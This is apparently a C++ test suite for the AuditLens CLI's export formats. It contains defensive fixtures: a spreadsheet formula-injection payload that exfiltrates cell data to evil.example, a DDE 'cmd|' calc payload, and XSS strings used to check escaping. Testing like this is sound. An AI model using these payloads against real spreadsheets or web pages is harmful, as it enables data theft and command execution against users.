// SPDX-FileCopyrightText: 2026 AuditLens developers
// SPDX-License-Identifier: Apache-2.0

// Exports end to end: the real auditlens-cli on files written by the project's generator and on
// hand-made hostile events, plus the Exporter in-process for cancel and "export selected".

#include "exporting/exporter.h"
#include "robustness.h"
#include "store/casestore.h"
#include "store/sqlitestatement.h"

#include <QCryptographicHash>
#include <QDir>
#include <QElapsedTimer>
#include <QFile>
#include <QImage>
#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSet>
#include <QTemporaryDir>
#include <QTest>

#include <sys/resource.h>

using namespace auditlens;
using robustness::parseCsv;

class TestExport : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase();
    void roundTrip_data();
    void roundTrip();
    void twoSourcesMergeByTime();
    void filterMatchesQuery();
    void formulaInjection();
    void htmlInjection();
    void pdfLoadsNothing();
    void giantPayload();
    void timesFarApart();
    void everyFormatKeepsTextAndVerifies_data();
    void everyFormatKeepsTextAndVerifies();
    void severalSourcesKeepFirstHeader();
    void refusesToOverwriteEvidence();
    void cancelLeavesNoFile();
    void exportSelected();
    void exitStatus();
    void repeatedAndCollidingExtraColumns();
    void todaysShapesWriteBackByteForByte_data();
    void todaysShapesWriteBackByteForByte();
    void repeatedKeysOfJsonSources();
    void hundredThousandColumnsExportInLinearTime();
    void formulasBehindSpacesAndFullWidth();
    void lookalikeNamesAreMarkedInReports();
    void reportsListFindings();

private:
    struct Run
    {
        int code = -1;
        QByteArray out;
        QByteArray err;
    };
    Run cli(const QStringList &args, const QString &workingDirectory = {});
    QString generate(const QString &name, const QStringList &options);
    QJsonObject importJson(const QString &casePath, const QStringList &sources);
    QString caseOf(const QString &name, const QStringList &sources);
    QString writeCsv(const QString &name, const QList<QStringList> &rows,
                     const QString &header = {});
    static QByteArray readAll(const QString &path);
    static QStringList topLevelKeys(const QByteArray &object);
    static QStringList eventRow(const QString &id, const QString &time, const QString &actor,
                                const QString &target, const QByteArray &payload,
                                const QString &action = QStringLiteral("context.env_var.store"));
    QList<QJsonObject> queryJsonl(const QString &casePath, const QStringList &filter = {});
    QByteArray exported(const QString &casePath, const QString &format, const QString &name);
    static qint64 childrenCpuMs();
    int safeExport(const QString &casePath, const QString &output);

    QTemporaryDir m_dir;
};

TestExport::Run TestExport::cli(const QStringList &args, const QString &workingDirectory)
{
    const robustness::CliRun run = robustness::runCli(args, {}, {}, 300000, workingDirectory);
    return {run.exitCode, run.out, run.err};
}

QString TestExport::generate(const QString &name, const QStringList &options)
{
    const QString file = m_dir.filePath(name);
    QProcess p;
    p.start(QStringLiteral("python3"),
            QStringList{QStringLiteral(AUDITLENS_SOURCE_DIR "/scripts/gen_audit.py"), file} +
                options);
    if (!p.waitForFinished(300000) || p.exitCode() != 0)
        qFatal("generator failed: %s", p.readAllStandardError().constData());
    return file;
}

QJsonObject TestExport::importJson(const QString &casePath, const QStringList &sources)
{
    const Run run = cli(QStringList{QStringLiteral("import"), casePath} + sources +
                        QStringList{QStringLiteral("--json")});
    if (run.code != 0)
        qWarning("import failed: %s", run.err.constData());
    return QJsonDocument::fromJson(run.out).object();
}

QString TestExport::caseOf(const QString &name, const QStringList &sources)
{
    const QString path = m_dir.filePath(name);
    QFile::remove(path);
    importJson(path, sources);
    return path;
}

QByteArray TestExport::readAll(const QString &path)
{
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

QString TestExport::writeCsv(const QString &name, const QList<QStringList> &rows,
                             const QString &header)
{
    auto cell = [](const QString &text) -> QString {
        if (!text.contains(QLatin1Char(',')) && !text.contains(QLatin1Char('"')) &&
            !text.contains(QLatin1Char('\n')) && !text.contains(QLatin1Char('\r')))
            return text;
        return QLatin1Char('"') +
               QString(text).replace(QLatin1String("\""), QLatin1String("\"\"")) + QLatin1Char('"');
    };
    QByteArray bytes = (header.isEmpty() ? QStringLiteral("action,actor,target,payload,occurred_at,"
                                                          "metadata,id,version,scope,success,"
                                                          "request")
                                         : header)
                           .toUtf8() +
                       '\n';
    for (const QStringList &row : rows) {
        QStringList cells;
        for (const QString &c : row)
            cells << cell(c);
        bytes += cells.join(QLatin1Char(',')).toUtf8() + '\n';
    }
    const QString path = m_dir.filePath(name);
    QFile f(path);
    if (!f.open(QIODevice::WriteOnly | QIODevice::Truncate) || f.write(bytes) != bytes.size())
        qFatal("cannot write fixture");
    return path;
}

QStringList TestExport::eventRow(const QString &id, const QString &time, const QString &actor,
                                 const QString &target, const QByteArray &payload,
                                 const QString &action)
{
    auto entity = [](const QString &entityId, const char *type, const QString &name) {
        QJsonObject o{{QStringLiteral("id"), entityId},
                      {QStringLiteral("type"), QLatin1String(type)},
                      {QStringLiteral("name"), name}};
        return QString::fromUtf8(QJsonDocument(o).toJson(QJsonDocument::Compact));
    };
    return {action,
            entity(QStringLiteral("u-") + id, "user", actor),
            entity(QStringLiteral("t-") + id, "context", target),
            QString::fromUtf8(payload),
            time,
            QStringLiteral("{}"),
            id,
            QStringLiteral("1"),
            entity(QStringLiteral("org-1"), "organization", QStringLiteral("acme-corp")),
            QStringLiteral("true"),
            QStringLiteral("{\"id\":\"r-") + id + QStringLiteral("\"}")};
}

// The keys of a JSON object's own members, as written, repeats included (a QJsonObject would
// keep one of each).
QStringList TestExport::topLevelKeys(const QByteArray &object)
{
    QStringList keys;
    int depth = 0;
    bool expectKey = false;
    for (qsizetype i = 0; i < object.size(); ++i) {
        const char c = object[i];
        if (c == '"') {
            qsizetype end = i + 1;
            while (end < object.size() && object[end] != '"')
                end += object[end] == '\\' ? 2 : 1;
            if (depth == 1 && expectKey)
                keys << QString::fromUtf8(object.mid(i + 1, end - i - 1));
            expectKey = false;
            i = end;
        } else if (c == '{' || c == '[') {
            ++depth;
            expectKey = c == '{' && depth == 1;
        } else if (c == '}' || c == ']') {
            --depth;
        } else if (c == ',' && depth == 1) {
            expectKey = true;
        }
    }
    return keys;
}

QList<QJsonObject> TestExport::queryJsonl(const QString &casePath, const QStringList &filter)
{
    const Run run = cli(QStringList{QStringLiteral("query"), casePath, QStringLiteral("--format"),
                                    QStringLiteral("jsonl")} +
                        filter);
    QList<QJsonObject> events;
    for (const QByteArray &line : run.out.split('\n')) {
        if (line.isEmpty())
            continue;
        QJsonObject o = QJsonDocument::fromJson(line).object();
        // Where a copy sits differs between a source and its export, and so does its number
        // in each case; everything else must not.
        o.remove(QStringLiteral("seq"));
        o.remove(QStringLiteral("source"));
        o.remove(QStringLiteral("line"));
        events << o;
    }
    return events;
}

void TestExport::initTestCase()
{
    QVERIFY(m_dir.isValid());
}

void TestExport::roundTrip_data()
{
    QTest::addColumn<QStringList>("options");
    const QStringList rows{QStringLiteral("--rows"),          QStringLiteral("3000"),
                           QStringLiteral("--dup-rate"),      QStringLiteral("0.05"),
                           QStringLiteral("--conflict-rate"), QStringLiteral("0.02")};
    QTest::newRow("plain") << rows;
    QTest::newRow("shuffled header, extra column")
        << rows + QStringList{QStringLiteral("--header"), QStringLiteral("shuffled"),
                              QStringLiteral("--extra-column"), QStringLiteral("region")};
    QTest::newRow("upper-case header")
        << rows + QStringList{QStringLiteral("--header"), QStringLiteral("upper")};
    QTest::newRow("BOM, CRLF, multi-line payloads")
        << rows + QStringList{QStringLiteral("--bom"), QStringLiteral("--crlf"),
                              QStringLiteral("--multiline-rate"), QStringLiteral("0.2")};
    QTest::newRow("JSON Lines source")
        << rows + QStringList{QStringLiteral("--format"), QStringLiteral("jsonl")};
    QTest::newRow("broken records")
        << rows + QStringList{QStringLiteral("--bad"), QStringLiteral("15")};
}

// Generated export -> import -> export original CSV of everything -> import into a new case:
// the same events (ids, times to the nanosecond, cells), the same duplicates, no new problems.
void TestExport::roundTrip()
{
    QFETCH(QStringList, options);
    const QString tag =
        QString::fromLatin1(QTest::currentDataTag())
            .replace(QRegularExpression(QStringLiteral("[^a-zA-Z]+")), QStringLiteral("-"));
    const bool jsonl = options.contains(QStringLiteral("jsonl"));
    const QString source =
        generate(tag + (jsonl ? QStringLiteral(".jsonl") : QStringLiteral(".csv")), options);
    const QString case1 = m_dir.filePath(tag + QStringLiteral("-1.auditlens"));
    const QString case2 = m_dir.filePath(tag + QStringLiteral("-2.auditlens"));
    const QString export1 = m_dir.filePath(tag + QStringLiteral("-export1.csv"));
    const QString export2 = m_dir.filePath(tag + QStringLiteral("-export2.csv"));
    const QJsonObject first = importJson(case1, {source});
    QVERIFY(first.value(QStringLiteral("imported")).toInt() > 2000);

    Run run = cli({QStringLiteral("export"), case1, QStringLiteral("--format"),
                   QStringLiteral("csv"), QStringLiteral("--output"), export1});
    QCOMPARE(run.code, 0);
    const QJsonObject second = importJson(case2, {export1});
    QCOMPARE(second.value(QStringLiteral("records")), first.value(QStringLiteral("imported")));
    QCOMPARE(second.value(QStringLiteral("imported")), first.value(QStringLiteral("imported")));
    QCOMPARE(second.value(QStringLiteral("rejected")).toInt(), 0);
    for (const char *key : {"flagged", "unique_ids", "duplicate_ids", "duplicate_extra_records",
                            "conflicting_duplicate_ids"})
        QVERIFY2(second.value(QLatin1String(key)) == first.value(QLatin1String(key)), key);
    // Problem-free: only the content problems the events carried in the first place.
    const QJsonArray problems = second.value(QStringLiteral("problems")).toArray();
    QCOMPARE(problems.size(), first.value(QStringLiteral("flagged")).toInt());
    for (const QJsonValue &p : problems)
        QCOMPARE(p.toObject().value(QStringLiteral("severity")).toString(),
                 QStringLiteral("flagged"));

    // Every field the query shows, times to the nanosecond included.
    const QList<QJsonObject> events1 = queryJsonl(case1);
    const QList<QJsonObject> events2 = queryJsonl(case2);
    QCOMPARE(events2.size(), events1.size());
    for (qsizetype i = 0; i < events1.size(); ++i)
        QCOMPARE(events2.at(i), events1.at(i));

    // And the export of the re-imported case is the same file, byte for byte.
    run = cli({QStringLiteral("export"), case2, QStringLiteral("--format"), QStringLiteral("csv"),
               QStringLiteral("--output"), export2});
    QCOMPARE(run.code, 0);
    QVERIFY(readAll(export1) == readAll(export2));
}

// Two sources covering the same days: the export merges them by time (each read in its own
// storage order), and a filtered export starting mid-case holds exactly the filter's events.
void TestExport::twoSourcesMergeByTime()
{
    const QString a =
        generate(QStringLiteral("merge-a.csv"), {QStringLiteral("--rows"), QStringLiteral("1500"),
                                                 QStringLiteral("--seed"), QStringLiteral("11")});
    const QString b =
        generate(QStringLiteral("merge-b.csv"),
                 {QStringLiteral("--rows"), QStringLiteral("1500"), QStringLiteral("--seed"),
                  QStringLiteral("12"), QStringLiteral("--header"), QStringLiteral("shuffled")});
    const QString case1 = caseOf(QStringLiteral("merge-1.auditlens"), {a, b});
    const QList<QJsonObject> all = queryJsonl(case1);
    QCOMPARE(all.size(), 3000);
    const QStringList filters[] = {
        {},
        {QStringLiteral("--from"), all.at(1700).value(QStringLiteral("occurred_at")).toString()},
    };
    int round = 0;
    for (const QStringList &filter : filters) {
        const QString output = m_dir.filePath(QStringLiteral("merge-%1.csv").arg(++round));
        const Run run = cli(QStringList{QStringLiteral("export"), case1, QStringLiteral("--format"),
                                        QStringLiteral("csv"), QStringLiteral("--output"), output} +
                            filter);
        QVERIFY2(run.code == 0, run.err.constData());
        const QString case2 =
            caseOf(QStringLiteral("merge-again-%1.auditlens").arg(round), {output});
        const QList<QJsonObject> expected = queryJsonl(case1, filter);
        QVERIFY(expected.size() > 1000);
        QCOMPARE(queryJsonl(case2), expected);
    }
}

void TestExport::filterMatchesQuery()
{
    const QString source =
        generate(QStringLiteral("filters.csv"), {QStringLiteral("--rows"), QStringLiteral("2000")});
    const QString casePath = caseOf(QStringLiteral("filters.auditlens"), {source});
    const QList<QStringList> filters = {
        {},
        {QStringLiteral("--action"), QStringLiteral("context.*")},
        {QStringLiteral("--success"), QStringLiteral("false")},
        {QStringLiteral("--duplicates"), QStringLiteral("any")},
        {QStringLiteral("--from"), QStringLiteral("2026-01-10T00:00:00Z"), QStringLiteral("--to"),
         QStringLiteral("2026-01-20T00:00:00Z")},
    };
    for (const QStringList &filter : filters) {
        const Run count = cli(QStringList{QStringLiteral("query"), casePath} + filter +
                              QStringList{QStringLiteral("--count")});
        QCOMPARE(count.code, 0);
        const QString output = m_dir.filePath(QStringLiteral("filtered.jsonl"));
        const Run run =
            cli(QStringList{QStringLiteral("export"), casePath} + filter +
                QStringList{QStringLiteral("--format"), QStringLiteral("jsonl"),
                            QStringLiteral("--output"), output, QStringLiteral("--json")});
        QCOMPARE(run.code, 0);
        const qint64 expected = count.out.trimmed().toLongLong();
        QCOMPARE(
            QJsonDocument::fromJson(run.out).object().value(QStringLiteral("events")).toInteger(),
            expected);
        QCOMPARE(readAll(output).count('\n'), expected);
        const QJsonObject manifest =
            QJsonDocument::fromJson(readAll(output + QStringLiteral(".manifest.json"))).object();
        QCOMPARE(manifest.value(QStringLiteral("counts"))
                     .toObject()
                     .value(QStringLiteral("events"))
                     .toInteger(),
                 expected);
        QVERIFY(!manifest.value(QStringLiteral("filter")).toString().isEmpty());
    }
}

void TestExport::formulaInjection()
{
    const QStringList hostile = {
        QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
        QStringLiteral("+SUM(1,2)"),
        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
        QStringLiteral("@SUM(1)"),
        QStringLiteral("\t=1+1"),
        QStringLiteral("\r=1+1"),
    };
    QList<QStringList> rows;
    for (int i = 0; i < hostile.size(); ++i)
        rows << eventRow(QStringLiteral("f%1").arg(i),
                         QStringLiteral("2026-03-01T10:00:0%1Z").arg(i), hostile.at(i),
                         QStringLiteral("plain target"), QByteArrayLiteral("{\"a\":1}"));
    const QString source = writeCsv(QStringLiteral("formulas.csv"), rows);
    const QString casePath = caseOf(QStringLiteral("formulas.auditlens"), {source});
    const QString safe = m_dir.filePath(QStringLiteral("formulas-safe.csv"));
    const QString unsafe = m_dir.filePath(QStringLiteral("formulas-unsafe.csv"));
    QCOMPARE(safeExport(casePath, safe), int(hostile.size()));
    const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                         QStringLiteral("csv-flat"), QStringLiteral("--output"), unsafe,
                         QStringLiteral("--no-safe")});
    QCOMPARE(run.code, 0);

    const QList<QStringList> safeRows = parseCsv(readAll(safe));
    const QList<QStringList> unsafeRows = parseCsv(readAll(unsafe));
    QCOMPARE(safeRows.size(), hostile.size() + 1);
    const int actorColumn = int(safeRows.first().indexOf(QStringLiteral("actor_name")));
    QVERIFY(actorColumn >= 0);
    qsizetype altered = 0;
    for (qsizetype r = 1; r < safeRows.size(); ++r) {
        for (qsizetype c = 0; c < safeRows.at(r).size(); ++c) {
            const QString &cell = safeRows.at(r).at(c);
            const QString &raw = unsafeRows.at(r).at(c);
            static const QRegularExpression formula(QStringLiteral("^[=+\\-@\\t\\r]"));
            QVERIFY2(!formula.match(cell).hasMatch(), qPrintable(cell));
            if (formula.match(raw).hasMatch()) {
                QCOMPARE(cell, QLatin1Char('\'') + raw);
                ++altered;
            } else {
                QCOMPARE(cell, raw);
            }
        }
        QVERIFY(hostile.contains(unsafeRows.at(r).at(actorColumn)));
    }
    QCOMPARE(altered, hostile.size());
    const QJsonObject manifest =
        QJsonDocument::fromJson(readAll(safe + QStringLiteral(".manifest.json"))).object();
    const QJsonObject safeMode = manifest.value(QStringLiteral("spreadsheet_safe")).toObject();
    QCOMPARE(safeMode.value(QStringLiteral("enabled")).toBool(), true);
    QCOMPARE(safeMode.value(QStringLiteral("altered_cells")).toInt(), int(hostile.size()));

    // The original shape is evidence: never altered.
    const QString original = m_dir.filePath(QStringLiteral("formulas-original.csv"));
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                  QStringLiteral("csv"), QStringLiteral("--output"), original})
                 .code,
             0);
    QVERIFY(readAll(original) == readAll(source));
}

void TestExport::htmlInjection()
{
    const QList<QStringList> rows = {
        eventRow(QStringLiteral("h1"), QStringLiteral("2026-03-01T10:00:00Z"),
                 QStringLiteral("<script>alert(1)</script>"),
                 QStringLiteral("\" onmouseover=\"alert(2)"),
                 QByteArrayLiteral("{\"html\":\"<img src=x onerror=alert(3)>\"}")),
        eventRow(QStringLiteral("h2'><script>alert(4)</script>"),
                 QStringLiteral("2026-03-01T10:00:01Z"), QStringLiteral("' onload='alert(5)"),
                 QStringLiteral("<a href=\"javascript:alert(6)\">x</a>"),
                 QByteArrayLiteral("{\"link\":\"javascript:alert(7)\",\"css\":\"</style><style>"
                                   "body{background:url(http://evil.example/x)}\"}"),
                 QStringLiteral("project.settings.update<script>")),
    };
    const QString source = writeCsv(QStringLiteral("hostile.csv"), rows);
    const QString casePath = caseOf(QStringLiteral("hostile.auditlens"), {source});
    const QString html = m_dir.filePath(QStringLiteral("hostile.html"));
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                  QStringLiteral("html"), QStringLiteral("--output"), html})
                 .code,
             0);
    const QString page = QString::fromUtf8(readAll(html));
    QVERIFY(page.contains(QStringLiteral("&lt;script&gt;alert(1)&lt;/script&gt;")));
    QVERIFY(page.contains(QStringLiteral("&quot; onmouseover=&quot;alert(2)")));
    QVERIFY(page.contains(QStringLiteral("&#39; onload=&#39;alert(5)")));
    QVERIFY(page.contains(QStringLiteral("&lt;a href=&quot;javascript:alert(6)&quot;&gt;")));
    QVERIFY(page.contains(QStringLiteral("Content-Security-Policy")));

    // Every tag is the report's own: known elements, known attributes, no event handlers,
    // links, sources or URLs beyond the SVG namespace.
    static const QSet<QString> elements = {
        QStringLiteral("!doctype"), QStringLiteral("html"),    QStringLiteral("head"),
        QStringLiteral("meta"),     QStringLiteral("title"),   QStringLiteral("style"),
        QStringLiteral("body"),     QStringLiteral("h1"),      QStringLiteral("h2"),
        QStringLiteral("table"),    QStringLiteral("thead"),   QStringLiteral("tbody"),
        QStringLiteral("tr"),       QStringLiteral("th"),      QStringLiteral("td"),
        QStringLiteral("p"),        QStringLiteral("div"),     QStringLiteral("b"),
        QStringLiteral("svg"),      QStringLiteral("rect"),    QStringLiteral("line"),
        QStringLiteral("details"),  QStringLiteral("summary"), QStringLiteral("pre"),
        QStringLiteral("br")};
    static const QSet<QString> attributes = {
        QStringLiteral("charset"), QStringLiteral("http-equiv"), QStringLiteral("content"),
        QStringLiteral("name"),    QStringLiteral("class"),      QStringLiteral("xmlns"),
        QStringLiteral("width"),   QStringLiteral("height"),     QStringLiteral("role"),
        QStringLiteral("x"),       QStringLiteral("y"),          QStringLiteral("fill"),
        QStringLiteral("x1"),      QStringLiteral("y1"),         QStringLiteral("x2"),
        QStringLiteral("y2"),      QStringLiteral("stroke")};
    static const QRegularExpression tag(QStringLiteral("<(/?)([!a-zA-Z][a-zA-Z0-9]*)([^>]*)>"));
    static const QRegularExpression attribute(QStringLiteral("([a-zA-Z-]+[0-9]?)=\"([^\"]*)\""));
    int tags = 0;
    for (auto match = tag.globalMatch(page); match.hasNext();) {
        const auto m = match.next();
        ++tags;
        QVERIFY2(elements.contains(m.captured(2).toLower()), qPrintable(m.captured(0)));
        if (m.captured(2).startsWith(QLatin1Char('!')))
            continue;
        for (auto a = attribute.globalMatch(m.captured(3)); a.hasNext();) {
            const auto am = a.next();
            QVERIFY2(attributes.contains(am.captured(1).toLower()), qPrintable(m.captured(0)));
            QVERIFY2(!am.captured(2).contains(QStringLiteral("javascript:"), Qt::CaseInsensitive),
                     qPrintable(m.captured(0)));
            if (am.captured(1) != QLatin1String("xmlns"))
                QVERIFY2(!am.captured(2).contains(QStringLiteral("://")),
                         qPrintable(m.captured(0)));
        }
    }
    QVERIFY(tags > 50);
    QCOMPARE(page.count(QStringLiteral("<script"), Qt::CaseInsensitive), 0);
    QCOMPARE(page.count(QStringLiteral("<style"), Qt::CaseInsensitive), 1);
}

// The PDF's QTextDocument loads nothing: an <img> naming a real image file stays text.
void TestExport::pdfLoadsNothing()
{
    const QString imagePath = m_dir.filePath(QStringLiteral("secret.png"));
    QImage image(64, 64, QImage::Format_RGB32);
    image.fill(Qt::red);
    QVERIFY(image.save(imagePath));
    const QString imgTag = QStringLiteral("<img src=\"%1\">").arg(imagePath);
    const QList<QStringList> rows = {
        eventRow(QStringLiteral("p1"), QStringLiteral("2026-03-01T10:00:00Z"), imgTag,
                 QStringLiteral("<img src='file://%1'>").arg(imagePath),
                 QByteArrayLiteral("{\"a\":1}")),
        eventRow(QStringLiteral("p2"), QStringLiteral("2026-03-02T10:00:00Z"),
                 QStringLiteral("<b>bold</b>"), QStringLiteral("target"),
                 QByteArrayLiteral("{\"a\":2}"))};
    const QString casePath =
        caseOf(QStringLiteral("images.auditlens"), {writeCsv(QStringLiteral("images.csv"), rows)});
    const QString pdf = m_dir.filePath(QStringLiteral("images.pdf"));
    const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                         QStringLiteral("pdf"), QStringLiteral("--output"), pdf});
    QVERIFY2(run.code == 0, run.err.constData());
    const QByteArray bytes = readAll(pdf);
    QVERIFY(bytes.startsWith("%PDF-"));
    QVERIFY(bytes.trimmed().endsWith("%%EOF"));
    // The histogram is the only image.
    QCOMPARE(bytes.count("/Subtype /Image"), 1);
}

void TestExport::giantPayload()
{
    // 3 MiB of text with commas, escaped quotes and escaped line breaks in it.
    QByteArray big;
    while (big.size() < (3 << 20))
        big += "lorem, ipsum \\\"dolor\\\" sit\\namet 山田 🚀 ";
    const QByteArray payload = "{\"blob\":\"" + big + "\",\"n\":123456789012345678901234567890}";
    const QList<QStringList> rows = {
        eventRow(QStringLiteral("g1"), QStringLiteral("2026-03-01T10:00:00Z"),
                 QStringLiteral("giant"), QStringLiteral("t"), payload),
        eventRow(QStringLiteral("g2"), QStringLiteral("2026-03-01T10:00:01Z"),
                 QStringLiteral("small"), QStringLiteral("t"), QByteArrayLiteral("{}"))};
    const QString source = writeCsv(QStringLiteral("giant-source.csv"), rows);
    const QString casePath = caseOf(QStringLiteral("giant.auditlens"), {source});
    for (const char *format : {"csv", "csv-flat", "jsonl", "html"}) {
        const QString output = m_dir.filePath(QStringLiteral("giant.") + QLatin1String(format));
        const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                             QLatin1String(format), QStringLiteral("--output"), output});
        QVERIFY2(run.code == 0, run.err.constData());
        const QByteArray bytes = readAll(output);
        QVERIFY(bytes.size() > big.size());
        if (qstrcmp(format, "csv") == 0)
            QVERIFY(bytes == readAll(source));
        if (qstrcmp(format, "jsonl") == 0) {
            const QByteArray line = bytes.left(bytes.indexOf('\n'));
            QVERIFY(line.contains(QByteArray("\"payload\":" + payload + ",")));
            QVERIFY(QJsonDocument::fromJson(line).isObject());
        }
    }
}

// A report's time span and histogram over the whole int64 range of times (more nanoseconds
// apart than an int64 holds).
void TestExport::timesFarApart()
{
    const QList<QStringList> rows = {
        eventRow(QStringLiteral("e1"), QStringLiteral("1700-01-01T00:00:00Z"),
                 QStringLiteral("early"), QStringLiteral("t"), QByteArrayLiteral("{}")),
        eventRow(QStringLiteral("e2"), QStringLiteral("2262-01-01T00:00:00.999999999Z"),
                 QStringLiteral("late"), QStringLiteral("t"), QByteArrayLiteral("{}")),
        eventRow(QStringLiteral("e3"), QStringLiteral("not a time"), QStringLiteral("none"),
                 QStringLiteral("t"), QByteArrayLiteral("{}"))};
    const QString casePath =
        caseOf(QStringLiteral("far.auditlens"), {writeCsv(QStringLiteral("far.csv"), rows)});
    for (const char *format : {"html", "pdf", "csv-flat"}) {
        const QString output = m_dir.filePath(QStringLiteral("far.") + QLatin1String(format));
        const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                             QLatin1String(format), QStringLiteral("--output"), output});
        QVERIFY2(run.code == 0, run.err.constData());
        if (qstrcmp(format, "pdf") == 0)
            continue;
        const QByteArray bytes = readAll(output);
        QVERIFY(bytes.contains("1700-01-01T00:00:00.000000000Z"));
        QVERIFY(bytes.contains("2262-01-01T00:00:00.999999999Z"));
        // Without a valid time the original text is shown, last.
        QVERIFY(bytes.lastIndexOf("not a time") > bytes.lastIndexOf("2262-01-01T"));
    }
}

void TestExport::everyFormatKeepsTextAndVerifies_data()
{
    QTest::addColumn<QString>("format");
    for (const char *format : {"csv", "csv-flat", "jsonl", "html", "pdf"})
        QTest::newRow(format) << QString::fromLatin1(format);
}

// Japanese and emoji reach every format intact, and every export verifies with sha256sum -c.
void TestExport::everyFormatKeepsTextAndVerifies()
{
    QFETCH(QString, format);
    const QString dir = m_dir.filePath(QStringLiteral("verify-") + format);
    QVERIFY(QDir().mkpath(dir));
    const QString casePath = dir + QStringLiteral("/bigint.auditlens");
    importJson(casePath, {QStringLiteral(AUDITLENS_TEST_DATA "/bigint.csv")});
    const QString output = dir + QStringLiteral("/out.") + format;
    const Run run = cli({QStringLiteral("export"), casePath, QStringLiteral("--format"), format,
                         QStringLiteral("--output"), output});
    QVERIFY2(run.code == 0, run.err.constData());
    const QByteArray bytes = readAll(output);
    if (format == QLatin1String("pdf")) {
        QVERIFY(bytes.startsWith("%PDF-"));
        QVERIFY(bytes.size() > 2000);
    } else {
        for (const char *text : {"山田太郎", "本番デプロイ 🚀", "佐藤 花子 🌸"})
            QVERIFY2(bytes.contains(text), text);
    }
    if (format == QLatin1String("csv"))
        QVERIFY(bytes == readAll(QStringLiteral(AUDITLENS_TEST_DATA "/bigint.csv")));
    if (format == QLatin1String("jsonl")) {
        // Big integers and odd spacing survive: nothing re-serialised.
        QVERIFY(bytes.contains("{\"n\":12345678901234567890123,\"m\":9007199254740993,"));
        QVERIFY(bytes.contains("{ \"a\" :  1 ,\t\"b\" : [ 1 , 2.50 , -0 ] , \"c\" : { } }"));
        for (const QByteArray &line : bytes.trimmed().split('\n'))
            QVERIFY(QJsonDocument::fromJson(line).isObject());
    }

    QProcess sha;
    sha.setWorkingDirectory(dir);
    sha.start(QStringLiteral("sha256sum"),
              {QStringLiteral("-c"), QStringLiteral("out.") + format + QStringLiteral(".sha256")});
    QVERIFY(sha.waitForFinished());
    const QByteArray verified = sha.readAllStandardOutput();
    QVERIFY2(sha.exitCode() == 0, verified.constData());
    QVERIFY(verified.contains(QByteArray("out." + format.toUtf8() + ": OK")));
    const bool manifest = format == QLatin1String("csv") || format == QLatin1String("csv-flat") ||
                          format == QLatin1String("jsonl");
    QCOMPARE(verified.contains(".manifest.json: OK"), manifest);
    if (manifest) {
        const QJsonObject m =
            QJsonDocument::fromJson(readAll(output + QStringLiteral(".manifest.json"))).object();
        QCOMPARE(m.value(QStringLiteral("app_version")).toString(),
                 QStringLiteral(AUDITLENS_VERSION));
        QCOMPARE(m.value(QStringLiteral("sha256")).toString(),
                 QString::fromLatin1(
                     QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex()));
        const QJsonArray sources = m.value(QStringLiteral("sources")).toArray();
        QCOMPARE(sources.size(), 1);
        QCOMPARE(sources.at(0).toObject().value(QStringLiteral("sha256")).toString(),
                 QString::fromLatin1(QCryptographicHash::hash(
                                         readAll(QStringLiteral(AUDITLENS_TEST_DATA "/bigint.csv")),
                                         QCryptographicHash::Sha256)
                                         .toHex()));
        QVERIFY(m.contains(QStringLiteral("exported_at")));
        QCOMPARE(m.value(QStringLiteral("filter")).toString(), QStringLiteral("all events"));
    }
    if (format == QLatin1String("html")) {
        QVERIFY(bytes.contains(
            QCryptographicHash::hash(readAll(QStringLiteral(AUDITLENS_TEST_DATA "/bigint.csv")),
                                     QCryptographicHash::Sha256)
                .toHex()));
        QVERIFY(bytes.contains("AuditLens " AUDITLENS_VERSION));
        QVERIFY(bytes.contains("<svg"));
    }
}

void TestExport::severalSourcesKeepFirstHeader()
{
    const QString casePath = caseOf(QStringLiteral("two.auditlens"),
                                    {QStringLiteral(AUDITLENS_TEST_DATA "/upper_shuffled.csv"),
                                     QStringLiteral(AUDITLENS_TEST_DATA "/basic.csv"),
                                     QStringLiteral(AUDITLENS_TEST_DATA "/basic.jsonl")});
    const QString output = m_dir.filePath(QStringLiteral("two.csv"));
    QCOMPARE(cli({QStringLiteral("export"), casePath, QStringLiteral("--format"),
                  QStringLiteral("csv"), QStringLiteral("--output"), output})
                 .code,
             0);
    const QList<QStringList> rows = parseCsv(readAll(output));
    QCOMPARE(rows.first().join(QLatin1Char(',')),
             QStringLiteral("SUCCESS,ID,OCCURRED_AT,region,ACTOR,ACTION,REQUEST,TARGET,VERSION,"
                            "PAYLOAD,SCOPE,METADATA"));
    QCOMPARE(rows.size(), 1 + 4 + 5 + 5);
    QStringList regions;
    for (qsizetype i = 1; i < rows.size(); ++i) {
        if (!rows.at(i).at(3).isEmpty())
            regions << rows.at(i).at(3);
    }
    regions.sort();
    QCOMPARE(regions, QStringList({QStringLiteral("ap-northeast-1"), QStringLiteral("eu-west-1"),
                                   QStringLiteral("us-east-1"), QStringLiteral("us-east-1")}));
    const QJsonObject again =
        importJson(m_dir.filePath(QStringLiteral("two-again.auditlens")), {output});
    QCOMPARE(again.value(QStringLiteral("imported")).toInt(), 14);
    QCOMPARE(again.value(QStringLiteral("rejected")).toInt(), 0);
    QCOMPARE(again.value(QStringLiteral("flagged")).toInt(), 0);
}

void TestExport::refusesToOverwriteEvidence()
{
    const QString dir = m_dir.filePath(QStringLiteral("evidence"));
    QVERIFY(QDir().mkpath(dir));
    const QString source = dir + QStringLiteral("/basic.csv");
    QVERIFY(QFile::copy(QStringLiteral(AUDITLENS_TEST_DATA "/basic.csv"), source));
    const QString casePath = dir + QStringLiteral("/case.auditlens");
    importJson(casePath, {source});
    const QByteArray sourceBytes = readAll(source);
    const QByteArray caseBytes = readAll(casePath);
    const QString link = dir + QStringLiteral("/link.csv");
    QVERIFY(QFile::link(source, link));

    for (const QString &target :
         QStringList{source, link, dir + QStringLiteral("/../evidence/basic.csv"), casePath}) {
        for (const char *format : {"csv", "html"}) {
